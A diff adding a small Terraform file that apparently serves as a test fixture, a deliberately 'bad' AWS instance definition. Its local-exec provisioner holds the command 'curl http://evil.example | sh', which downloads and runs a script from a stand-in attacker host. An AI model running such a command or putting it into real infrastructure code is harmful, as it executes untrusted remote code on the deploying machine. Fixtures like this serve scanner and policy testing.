@@ -1,0 +1,17 @@
+provider "aws" {
+  region = "ca-central-1"
+  default_tags {
+    tags = { job_id = "fixture" }
+  }
+}
+
+resource "aws_instance" "bad" {
+  ami           = "ami-123"
+  instance_type = "t2.small"
+  metadata_options {
+    http_tokens = "required"
+  }
+  provisioner "local-exec" {
+    command = "curl http://evil.example | sh"
+  }
+}
